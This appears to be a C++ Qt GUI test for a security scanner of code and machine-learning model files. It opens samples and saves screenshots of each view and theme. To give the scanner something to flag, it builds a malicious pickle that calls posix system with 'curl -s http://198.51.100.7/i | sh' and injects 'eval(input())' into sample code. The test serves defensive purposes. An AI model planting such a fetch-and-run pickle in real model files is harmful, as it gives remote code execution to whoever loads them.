// SPDX-License-Identifier: GPL-3.0-or-later
// Opens the sample, walks every mode in every theme and saves a picture of each to build/screenshots. Pictures are for
// people; the test itself only knows that none is empty.
#include "app/session/comparing.h"
#include "app/session/fixing.h"
#include "app/session/inspecting.h"
#include "app/session/session.h"
#include "app/session/threats.h"
#include "app/session/triage.h"
#include "app/settings/saver.h"
#include "app/settings/settings.h"
#include "app/shell/actions.h"
#include "app/shell/main_window.h"
#include "app/shell/sheet.h"
#include "app/shell/theme_controller.h"
#include "app/shell/views.h"
#include "tests/gui/two_models.h"
#include "tests/unit/pickle_assembler.h"
#include "translations/translations.h"
#include "widgets/common/buttons.h"
#include "widgets/common/fact_rows.h"
#include "widgets/common/style.h"
#include "widgets/findings/findings_view.h"
#include "widgets/fixes/compare_tree.h"
#include "widgets/fixes/compare_view.h"
#include "widgets/model/model_view.h"
#include "widgets/model/tensor_table.h"
#include "widgets/models/review_state.h"
#include "widgets/threats/framework_lens.h"
#include "widgets/threats/threat_panels.h"

#include <QtCore/QDir>
#include <QtCore/QDirIterator>
#include <QtCore/QTemporaryDir>
#include <QtGui/QImage>
#include <QtTest/QSignalSpy>
#include <QtTest/QTest>

#include <set>

using namespace cupel;

class Tour : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void pictures_data();
    void pictures();
    void states_data();
    void states();
    void models_data();
    void models();
    void comparedModels_data();
    void comparedModels();
    void cleanupTestCase();

private:
    void keep(const QString& name);
    void prepare(const QString& state);
    void prepareThreats();
    void prepareComparison(const QString& state);
    void openModels();
    QTemporaryDir m_folder;
    std::unique_ptr<app::Saver> m_saver;
    std::unique_ptr<app::Settings> m_settings;
    std::unique_ptr<app::Session> m_session;
    std::unique_ptr<app::ThemeController> m_theme;
    std::unique_ptr<app::MainWindow> m_window;
};

void Tour::initTestCase()
{
    QVERIFY(m_folder.isValid());
    const auto paths = app::portablePaths(m_folder.path());
    m_saver = std::make_unique<app::Saver>();
    m_settings = std::make_unique<app::Settings>(paths.settingsFile(), *m_saver);
    app::installTranslations(*qApp);
    widgets::installStyle(*qApp);
    m_session = std::make_unique<app::Session>(*m_settings, *m_saver, paths);
    m_session->state().tourSeen = true; // it would cover what the pictures are for
    m_theme = std::make_unique<app::ThemeController>(*m_settings, QString());
    m_window = std::make_unique<app::MainWindow>(*m_session, *m_theme);
    m_window->resize(1280, 800);
    m_window->show();
    QSignalSpy finished(m_session.get(), &app::Session::scanFinished);
    m_window->openSample();
    QVERIFY(finished.wait(20'000));
    auto& review = m_session->review();
    QVERIFY(review.total() > 0);
    review.setCurrent(review.visible().front());
}

void Tour::pictures_data()
{
    QTest::addColumn<QString>("theme");
    QTest::addColumn<QString>("mode");
    for (const auto* theme : {"light", "dark", "contrast-light", "contrast-dark"}) {
        for (const auto& view : app::viewTable()) {
            QTest::addRow("%s-%s", view.id, theme) << QString::fromLatin1(theme) << QString::fromLatin1(view.id);
        }
    }
}

void Tour::pictures()
{
    QFETCH(QString, theme);
    QFETCH(QString, mode);
    QVERIFY(m_settings->set(u"appearance/theme", theme));
    m_window->showMode(mode);
    QTest::qWait(150); // layouts settle, pages of the report are painted

    keep(mode + u'-' + theme);
}

void Tour::states_data()
{
    QTest::addColumn<QString>("theme");
    QTest::addColumn<QString>("state");
    for (const auto* theme : {"light", "dark", "contrast-light", "contrast-dark"}) {
        for (const auto* state :
            {"review-decided", "review-expired", "review-chosen", "review-triage", "review-foreign", "compare-empty",
                "compare-done", "compare-inline", "share-own", "threats-framework"}) {
            QTest::addRow("%s-%s", state, theme) << QString::fromLatin1(theme) << QString::fromLatin1(state);
        }
    }
}

// Views in the middle of their work.
void Tour::states()
{
    QFETCH(QString, theme);
    QFETCH(QString, state);
    QVERIFY(m_settings->set(u"appearance/theme", theme));
    prepare(state);
    QTest::qWait(150);
    keep(state + u'-' + theme);
    m_window->resize(1280, 800);
    if (auto* sheet = m_window->findChild<app::Sheet*>(); sheet && sheet->isVisible()) {
        sheet->close();
    }
}

void Tour::prepare(const QString& state)
{
    auto& review = m_session->review();
    auto& triage = m_session->triage();
    auto* list = m_window->findChild<widgets::FindingsView*>();
    m_window->showMode(state.section(u'-', 0, 0));
    QVERIFY(QTest::qWaitFor([&] { return triage.ready(); }));
    list->dropMarks();
    list->showForeign({});
    if (state == u"review-decided" || state == u"review-expired") {
        widgets::TriageAnswer answer{review::Reason::AcceptedRisk,
            QStringLiteral("The key is of a closed account, see ticket 4711."), QStringLiteral("Ada Lovelace"),
            state == u"review-expired" ? QStringLiteral("2026-01-31") : QString()};
        const auto& visible = review.visible();
        review.setCurrent(visible.front());
        QCOMPARE(triage.decide({visible.front()}, answer).why, QString());
        answer.reason = review::Reason::TestData;
        answer.expires = QStringLiteral("2099-12-31");
        QCOMPARE(triage.decide({visible[2], visible[3]}, answer).why, QString());
    } else if (state == u"review-chosen") {
        list->takeFocus();
        review.setCurrent(review.visible()[1]);
        QTest::keyClick(m_window->focusWidget(), Qt::Key_Down, Qt::ShiftModifier);
        QTest::keyClick(m_window->focusWidget(), Qt::Key_Down, Qt::ShiftModifier);
    } else if (state == u"review-triage") {
        list->takeFocus();
        m_window->actions().at(u"finding.triage")->trigger();
    } else if (state == u"review-foreign") {
        list->showForeign({widgets::ForeignDecisions::About::Findings, 12, 7,
            {QStringLiteral("Ada Lovelace"), QStringLiteral("Grace Hopper")}, {}});
    } else if (state.startsWith(u"threats")) {
        prepareThreats();
    } else if (state.startsWith(u"compare")) {
        prepareComparison(state);
    } else if (state == u"share-own") {
        QFile file(m_folder.filePath(QStringLiteral("our-lab.json")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("{\"name\": \"lab\", \"title\": \"Lab\",\n \"gates\": [{\"id\": \"a\", \"title\": \"A\", "
                   "\"families\": [\"secrets\"]}]}\n");
        file.close();
        m_session->fixing().addProfile(file.fileName());
        QVERIFY(QTest::qWaitFor([&] { return !m_session->fixing().state().profileTroubles().empty(); }));
        QVERIFY(QTest::qWaitFor([&] { return m_session->fixing().state().outcome() != nullptr; }, 20'000));
    }
}

// An item of a framework with the threat that it rests on, as wide as most screens are.
void Tour::prepareThreats()
{
    m_window->resize(1440, 900);
    const auto& threats = m_session->threats().state();
    QVERIFY(QTest::qWaitFor([&] { return threats.how() == widgets::ThreatState::How::Ready; }, 20'000));
    auto* panels = m_window->findChild<widgets::ThreatPanels*>();
    panels->showPanel(widgets::ThreatPanels::Panel::Frameworks);
    auto* list = panels->frameworks()->list();
    list->setFocus();
    const auto& rows = list->facts();
    for (std::size_t i = 0; i < rows.size(); ++i) {
        if (rows[i].detail.startsWith(QStringLiteral("AML.T0018.000"))) {
            list->setCurrentIndex(list->model()->index(static_cast<int>(i), 0));
        }
    }
    m_window->actions().at(u"threats.fit")->trigger();
}

// The sample as it may have been before: a cell less, a line different.
void Tour::prepareComparison(const QString& state)
{
    auto& comparing = m_session->comparing();
    if (state == u"compare-empty") {
        comparing.reset();
        return;
    }
    if (!comparing.state().outcome()) {
        const QString earlier = m_folder.filePath(QStringLiteral("earlier"));
        QDirIterator files(m_session->roots().front(), QDir::Files, QDirIterator::Subdirectories);
        while (files.hasNext()) {
            QFile in(files.next());
            QVERIFY(in.open(QIODevice::ReadOnly));
            QByteArray bytes = in.readAll();
            bytes.replace("import pandas as pd", "import pandas");
            bytes.replace("read_csv(", "read_table(");
            bytes.replace("AKIA", "XKIA"); // no key yet
            bytes.replace("customers.head()", "eval(input())");
            const QString path = earlier + files.filePath().mid(m_session->roots().front().size());
            QVERIFY(QDir().mkpath(QFileInfo(path).path()));
            QFile out(path);
            QVERIFY(out.open(QIODevice::WriteOnly) && out.write(bytes) == bytes.size());
        }
        comparing.compareWithPath(earlier);
        QVERIFY(QTest::qWaitFor([&] { return comparing.state().file() != nullptr; }, 20'000));
    }
    auto* view = m_window->findChild<widgets::CompareView*>();
    auto* layout = view->findChild<widgets::SegmentedControl*>();
    layout->setCurrent(state == u"compare-inline" ? 1 : 0);
    Q_EMIT layout->currentChanged(layout->current());
}

void Tour::models_data()
{
    QTest::addColumn<QString>("theme");
    QTest::addColumn<QString>("part");
    for (const auto* theme : {"light", "dark", "contrast-light", "contrast-dark"}) {
        for (const auto* part : {"program", "loaders", "tensors"}) {
            QTest::addRow("model-%s-%s", part, theme) << QString::fromLatin1(theme) << QString::fromLatin1(part);
        }
    }
}

// A checkpoint, and a pickle that would start a program.
void Tour::openModels()
{
    const QString folder = m_folder.filePath(QStringLiteral("models"));
    QVERIFY(QDir().mkpath(folder));
    QVERIFY(QFile::copy(QStringLiteral(CUPEL_SOURCE_DIR "/tests/data/formats/zip/torch.pt"),
        folder + QStringLiteral("/churn-weights.pt")));
    std::string problem;
    const auto bytes = test::Assembler().assemble(
        "PROTO 2\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nBINPUT 0\nMARK\nBINUNICODE 'rate'\nBINFLOAT "
        "0.25\nBINUNICODE 'columns'\nMARK\nBINUNICODE 'tenure'\nBINUNICODE 'plan'\nTUPLE\nSETITEMS\nPOP\nGLOBAL posix "
        "system\nBINUNICODE 'curl -s http://198.51.100.7/i | sh'\nTUPLE1\nREDUCE\nPOP\nBINGET 0\nSTOP\n",
        problem);
    QCOMPARE(problem, std::string());
    QFile file(folder + QStringLiteral("/churn-model.pkl"));
    QVERIFY(file.open(QIODevice::WriteOnly)
        && file.write(bytes.data(), static_cast<qint64>(bytes.size())) == static_cast<qint64>(bytes.size()));
    file.close();
    QSignalSpy finished(m_session.get(), &app::Session::scanFinished);
    m_window->open({app::OpenTarget{folder, {}, {}, {}}});
    QVERIFY(finished.wait(20'000));
}

void Tour::models()
{
    QFETCH(QString, theme);
    QFETCH(QString, part);
    QVERIFY(m_settings->set(u"appearance/theme", theme));
    if (!m_session->roots().front().endsWith(u"models")) {
        openModels();
    }
    const bool tensors = part == u"tensors";
    const std::string root = m_session->roots().front().toStdString();
    m_session->review().showArtifact(root + (tensors ? "/churn-weights.pt!model/data.pkl" : "/churn-model.pkl"));
    m_window->showMode(QStringLiteral("model"));
    const auto& state = m_session->inspecting().state();
    QVERIFY(QTest::qWaitFor([&] {
        return state.reading() && state.reading()->analysis->artifact.path == m_session->review().currentArtifact();
    }));
    auto* view = m_window->findChild<widgets::ModelView*>();
    view->tabs()->setCurrentIndex(part == u"program" ? 0 : part == u"loaders" ? 2 : view->tabs()->count() - 1);
    if (tensors) {
        m_window->findChild<widgets::TensorTable*>()->table()->selectRow(0);
        QVERIFY(QTest::qWaitFor([&] { return state.values().has_value(); }));
    }
    QTest::qWait(150);
    keep(QStringLiteral("model-") + part + u'-' + theme);
}

void Tour::comparedModels_data()
{
    QTest::addColumn<QString>("theme");
    for (const auto* theme : {"light", "dark", "contrast-light", "contrast-dark"}) {
        QTest::addRow("compare-model-%s", theme) << QString::fromLatin1(theme);
    }
}

// Two versions of a model with something of everything.
void Tour::comparedModels()
{
    QFETCH(QString, theme);
    QVERIFY(m_settings->set(u"appearance/theme", theme));
    auto& state = m_session->comparing().state();
    if (!m_session->roots().front().endsWith(u"now")) {
        const QString now = m_folder.filePath(QStringLiteral("now"));
        const QString earlier = m_folder.filePath(QStringLiteral("then"));
        QVERIFY(test::writeTwoModels(earlier, now));
        QSignalSpy finished(m_session.get(), &app::Session::scanFinished);
        m_window->open({app::OpenTarget{now, {}, {}, {}}});
        QVERIFY(finished.wait(20'000));
        m_window->showMode(QStringLiteral("compare"));
        m_session->comparing().compareWithPath(earlier);
        QVERIFY(QTest::qWaitFor([&] { return state.tables() != nullptr; }, 20'000));
    }
    m_window->showMode(QStringLiteral("compare"));
    auto* tree = m_window->findChild<widgets::CompareTree*>();
    QVERIFY(tree && tree->isVisible());
    tree->setFocus(Qt::TabFocusReason);
    for (int i = 0; i < tree->model()->rowCount(); ++i) {
        const auto head = tree->model()->index(i, 0);
        if (head.data().toString().startsWith(u"Tensors")) {
            tree->setCurrentIndex(tree->model()->index(0, 0, head));
        }
    }
    QTest::qWait(150);
    keep(QStringLiteral("compare-model-") + theme);
}

void Tour::keep(const QString& name)
{
    const QImage picture = m_window->grab().toImage();
    std::set<QRgb> colors;
    for (int y = 0; y < picture.height(); y += 7) {
        for (int x = 0; x < picture.width(); x += 7) {
            colors.insert(picture.pixel(x, y));
        }
    }
    QVERIFY2(colors.size() > 8, "the picture is nearly of one colour");

    const QDir folder(QStringLiteral(CUPEL_SOURCE_DIR "/build/screenshots"));
    QVERIFY(folder.mkpath(QStringLiteral(".")));
    const auto scale = picture.devicePixelRatio() > 1 ? QStringLiteral("@2x") : QString();
    QVERIFY(picture.save(folder.filePath(name + scale + QStringLiteral(".png"))));
}

void Tour::cleanupTestCase()
{
    m_window.reset();
    m_theme.reset();
    m_session.reset();
}

QTEST_MAIN(Tour)
#include "tour.moc"
